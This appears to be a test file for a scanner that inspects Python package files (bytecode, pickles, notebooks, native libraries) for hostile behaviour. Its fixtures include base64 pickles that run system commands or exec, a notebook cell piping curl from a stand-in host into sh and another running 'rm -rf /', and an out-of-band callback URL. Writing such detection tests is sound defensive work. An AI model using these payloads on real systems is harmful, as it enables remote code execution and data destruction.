import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { rawText } from '../../base/display.ts'
import { factsOf, usesOf } from '../../node/source-facts.test-support.ts'
import { MARSHALED } from '../bytecode/bytecode-samples.test-support.ts'

/** The sample as a `.pyc` of Python 3.12; flags as in PEP 552. */
const pyc = (flags = 0): Buffer =>
  Buffer.concat([
    Buffer.from([0xcb, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    MARSHALED.find(([version]) => version === '3.12')?.[1] ?? Buffer.alloc(0),
  ])
const SOURCE =
  'import os as o\nfrom base64 import b64decode\ndef run(command="id", *rest):\n    for word in rest:\n        command = command + word\n    return o.system(command)\nclass A(object):\n    def f(self):\n        return run("who", "ami")\nA().f()\n'
const HARMLESS =
  'class A(object):\n    def f(self):\n        return 1\n\n\ndef run(command, *rest):\n    for word in rest:\n        pass\n'
const bytecodeOf = async (files: Record<string, string | Uint8Array>): Promise<unknown> =>
  (await factsOf(files)).inventory.bytecode.map(({ loads, extra, hasActing }) => [loads, extra.map(rawText), hasActing])

describe('bytecode among the files', () => {
  it('without source is run as the module it is', async () => {
    const uses = await usesOf({ 'demo/__init__.py': 'from .core import A\n', 'demo/core.pyc': pyc() })
    expect(uses.some((use) => use.startsWith('import process os.system'))).toBe(true)
  })

  it('is followed from source that imports it', async () => {
    const uses = await usesOf({ 'demo/__init__.py': 'from .core import run\nrun("id")\n', 'demo/core.pyc': pyc() })
    expect(uses.some((use) => use.startsWith('import process os.system'))).toBe(true)
  })

  it.each([
    ['its own source', SOURCE, 0, [['unchanged', [], false]]],
    ['other source, checked by time', HARMLESS, 0, [['unchanged', ['os', 'o', 'base64', 'b64decode', 'system'], true]]],
    ['other source, never checked', HARMLESS, 1, [['always', ['os', 'o', 'base64', 'b64decode', 'system'], true]]],
    ['other source, checked by hash', HARMLESS, 3, [['always', ['os', 'o', 'base64', 'b64decode', 'system'], true]]],
  ])('is held against %s', async (_, source, flags, expected) => {
    const files = { 'demo/a.py': source, 'demo/__pycache__/a.cpython-312.pyc': pyc(flags) }
    expect(await bytecodeOf(files)).toEqual(expected)
  })

  it('is followed although a comment of the source names all that it names', async () => {
    const source = '# os o base64 b64decode system run command rest word A f self object\n"os.system"\n'
    const files = { 'demo/__init__.py': source, 'demo/__pycache__/__init__.cpython-312.pyc': pyc(1) }
    expect((await usesOf(files)).some((use) => use.startsWith('import process os.system'))).toBe(true)
    expect(await bytecodeOf(files)).toEqual([['always', expect.arrayContaining(['os', 'system']), true]])
    const timed = { ...files, 'demo/__pycache__/__init__.cpython-312.pyc': pyc(0) }
    expect((await usesOf(timed)).some((use) => use.includes('os.system'))).toBe(true)
  })

  it('knows names in f-strings', async () => {
    const source = SOURCE.replace('return o.system(command)', 'return f"{o.system(command)}"')
    expect(await bytecodeOf({ 'demo/a.py': source, 'demo/__pycache__/a.cpython-312.pyc': pyc() })).toEqual([
      ['unchanged', [], false],
    ])
  })

  it('that no Python looks for never runs', async () => {
    expect(await bytecodeOf({ 'demo/__pycache__/gone.cpython-312.pyc': pyc() })).toEqual([['never', [], false]])
    expect(await bytecodeOf({ 'demo/a.py': SOURCE, 'demo/a.pyc': pyc() })).toEqual([['never', [], false]])
  })

  it('that runs and cannot be read is a problem, never clean', async () => {
    const broken = pyc().subarray(0, 60)
    expect((await factsOf({ 'demo/core.pyc': broken })).problems.map(({ id }) => id)).toEqual(['bytecode-not-read'])
    expect((await factsOf({ 'demo/core.pyc': Buffer.from([0xff, 0x0f, 0x0d, 0x0a, 0, 0]) })).problems).toHaveLength(1)
    expect((await factsOf({ 'demo/a.py': SOURCE, 'demo/__pycache__/a.cpython-312.pyc': broken })).problems).toEqual([])
  })
})

const PICKLES = {
  SYSTEM4: 'gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
  POPEN2: 'gAJdcQAoSwFYAQAAAHhxAWNjb21tYW5kcwpQb3BlbgpxAl1xAyhYAgAAAHNocQRYAgAAAC1jcQVYAgAAAGlkcQZlhXEHUnEIZS4=',
  EXEC3: 'gAN9cQBYAQAAAGFxAWNidWlsdGlucwpleGVjCnECWBkAAABpbXBvcnQgb3M7b3Muc3lzdGVtKCJpZCIpcQOFcQRScQVzLg==',
  DATA5:
    'gAWVjAAAAAAAAAB9lCiMAWGUjAtjb2xsZWN0aW9uc5SMC09yZGVyZWREaWN0lJOUKVKUjAFilF2UKEsBR0AEAAAAAAAAihEAAAAAAGH1uau/pFzD8SljHUMBeJROSwFLAksDh5SPlChLBJAoSwWRlGVzjAFklIwIZGF0ZXRpbWWUjARkYXRllJOUQwQH5AEBlIWUUpR1Lg==',
}
const picklesOf = async (content: Uint8Array): Promise<unknown> =>
  (await factsOf({ 'demo/state.pkl': content })).inventory.pickles.map(({ isRead, globals, acting }) => [
    isRead,
    globals.map(rawText),
    acting.map(rawText),
  ])

describe('pickles among the files', () => {
  it.each([
    ['a call', PICKLES.SYSTEM4, [true, ['posix.system'], ['posix.system']]],
    ['a call in a list', PICKLES.POPEN2, [true, ['commands.Popen'], ['commands.Popen']]],
    ['code', PICKLES.EXEC3, [true, ['builtins.exec'], ['builtins.exec']]],
    ['data', PICKLES.DATA5, [true, ['collections.OrderedDict', 'datetime.date'], []]],
  ])('are followed: %s', async (_, packed, expected) => {
    expect(await picklesOf(Buffer.from(packed, 'base64'))).toEqual([expected])
  })

  it('are followed through compression', async () => {
    expect(await picklesOf(deflateSync(Buffer.from(PICKLES.SYSTEM4, 'base64')))).toEqual([
      [true, ['posix.system'], ['posix.system']],
    ])
  })

  it('run their code where code loads them', async () => {
    const load = (packed: string): string => `import pickle, base64\npickle.loads(base64.b64decode("${packed}"))\n`
    expect(await usesOf({ 'demo/__init__.py': load(PICKLES.SYSTEM4) })).toContain(
      'import process os.system [base64 pickle] {host-identity}',
    )
    expect(
      (await usesOf({ 'demo/__init__.py': load(PICKLES.EXEC3) })).some((use) => use.startsWith('import process os.system')),
    ).toBe(true)
    expect((await usesOf({ 'demo/__init__.py': load(PICKLES.DATA5) })).every((use) => use.includes('pickle.loads'))).toBe(true)
  })

  it.each([
    ['tempfile', '_os.system'],
    ['codecs', 'builtins.exec'],
    ['multiprocessing.process', 'os.system'],
    ['pkgutil', 'resolve_name'],
    ['types', 'FunctionType'],
  ])('know %s/%s for what it is', async (module, name) => {
    const text = (value: string): Buffer => Buffer.concat([Buffer.from([0x8c, value.length]), Buffer.from(value)])
    const head = Buffer.from([0x80, 4])
    const tail = Buffer.from([0x85, 0x52, 0x2e])
    const packed = Buffer.concat([head, text(module), text(name), Buffer.from([0x93]), text('id'), tail])
    expect(await picklesOf(packed)).toEqual([[true, [`${module}.${name}`], [`${module}.${name}`]]])
  })

  it('that are none are not read', async () => {
    expect(await picklesOf(new TextEncoder().encode('a,b,c\n1,2,3\n'))).toEqual([[false, [], []]])
    expect(await picklesOf(new Uint8Array(0))).toEqual([[true, [], []]])
  })

  it('never make the reader throw', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...Object.values(PICKLES)),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 8 }),
        async (packed, changes) => {
          const bytes = Buffer.from(packed, 'base64')
          for (const [at, byte] of changes) bytes[at % bytes.length] = byte
          expect(await picklesOf(bytes)).toHaveLength(1)
        },
      ),
      { numRuns: 200 },
    )
  })
})

describe('notebooks among the files', () => {
  const notebook = JSON.stringify(
    {
      cells: [
        { cell_type: 'markdown', source: ['os.system("no code")'] },
        {
          cell_type: 'code',
          source: ['import os\n', '%matplotlib inline\n', '!curl https://h.example/a | sh\n', 'os.system("id")'],
        },
        { cell_type: 'code', source: ['%%bash\n', 'rm -rf /'] },
      ],
      nbformat: 4,
    },
    null,
    1,
  )

  it('are read as code that somebody may run', async () => {
    const { uses } = await factsOf({ 'demo/a.ipynb': notebook })
    expect(uses.map(({ context, name, line, objects }) => [context, name, line, objects[0]?.class])).toEqual([
      ['call', 'os.system', 14, 'download-and-run'],
      ['call', 'os.system', 15, 'host-identity'],
      ['call', 'os.system', 22, 'destruction'],
    ])
    expect(notebook.split('\n')[14]).toContain('os.system(')
  })

  it('that are broken hold nothing', async () => {
    expect((await factsOf({ 'demo/a.ipynb': '{"cells": [' })).uses).toEqual([])
    expect((await factsOf({ 'demo/a.ipynb': '{"cells": [1, {"cell_type": "code", "source": 5}]}' })).uses).toEqual([])
  })
})

describe('machine code among the files', () => {
  it('is listed by its headers, and by name when it is none or large', async () => {
    const { inventory } = await factsOf({ 'demo/a.so': pe(), 'demo/b.dll': 'no library' })
    expect(inventory.natives.map(({ format, kind, symbols, texts }) => [format, kind, symbols, texts.map(rawText)])).toEqual([
      ['PE', 'library', [], ['https://x.oast.fun/a']],
      [null, null, [], []],
    ])
  })

  it('never makes the reader throw', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('\x7fELF\x02\x01', '\x7fELF\x01\x02', 'MZ', '\xcf\xfa\xed\xfe', '\xca\xfe\xba\xbe'),
        fc.uint8Array({ minLength: 80, maxLength: 400 }),
        async (magic, noise) => {
          const content = Buffer.concat([Buffer.from(magic, 'latin1'), noise])
          expect((await factsOf({ 'demo/a.so': content })).inventory.natives).toHaveLength(1)
        },
      ),
    )
  })
})

/** The head of a Windows library without sections, and a text behind it. */
function pe(): Buffer {
  const bytes = Buffer.alloc(512)
  bytes.write('MZ')
  bytes.writeUInt32LE(0x80, 0x3c)
  bytes.write('PE\0\0', 0x80)
  bytes.writeUInt16LE(0x2022, 0x80 + 22)
  bytes.writeUInt16LE(0x20b, 0x80 + 24)
  bytes.write('https://x.oast.fun/a\0', 400)
  return bytes
}

describe('large notebooks', () => {
  it('are read in time that grows with their size', async () => {
    const cells = Array.from({ length: 20_000 }, (_, index) => ({ cell_type: 'code', source: [`x = ${index}\n`, 'print(x)'] }))
    const started = performance.now()
    await factsOf({ 'demo/a.ipynb': JSON.stringify({ cells }) })
    expect(performance.now() - started).toBeLessThan(10_000)
  })
})
